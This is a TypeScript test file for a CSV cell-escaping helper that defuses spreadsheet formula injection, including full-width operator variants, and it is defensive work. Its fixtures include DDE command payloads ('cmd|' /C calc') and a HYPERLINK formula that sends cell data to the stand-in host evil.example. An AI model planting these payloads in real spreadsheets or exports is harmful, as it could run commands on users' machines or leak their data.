import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "./csv";

/** Characters a spreadsheet starts a formula with, ASCII and full-width (＝ ＋ － ＠). */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const startsFormula = (cell: string) => FORMULA_STARTS.some((c) => cell.startsWith(c));

describe("csv cells", () => {
  it("round-trips any text through a CSV parser, formulas prefixed with a quote", () => {
    const formulas = ["=1+1", "+A1", "-2", "@SUM(A1)", "\tx", "＝1+1", "＋A1", "－2", "＠SUM(A1)"];
    const cell = fc.oneof(fc.string(), fc.constantFrom(...formulas, "a,b", 'say "hi"', "line\r\nbreak", " padded "), fc.tuple(fc.constantFrom(...FORMULA_STARTS), fc.string()).map(([a, b]) => a + b));
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const [row] = parse(csvLine(cells), { relax_column_count: true }) as string[][];
        expect(row).toEqual(cells.map((c) => (startsFormula(c) ? `'${c}` : c)));
      }),
    );
  });

  it("leaves plain values alone and writes null as an empty cell", () => {
    expect(csvCell("WS-0001")).toBe("WS-0001");
    expect(csvCell(42)).toBe("42");
    expect(csvCell(null)).toBe("");
    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvCell("a,b")).toBe('"a,b"');
  });

  it("defuses formulas written with the full-width ＝ ＋ － ＠ as well", () => {
    expect(csvCell('＝HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'＝HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csvCell("＋1+cmd|' /C calc'!A0")).toBe("'＋1+cmd|' /C calc'!A0");
    expect(csvCell("－2+3")).toBe("'－2+3");
    expect(csvCell("＠SUM(A1:A9)")).toBe("'＠SUM(A1:A9)");
    // Only at the start, as with the ASCII operators.
    expect(csvCell("WS-０００１＝")).toBe("WS-０００１＝");
  });
});
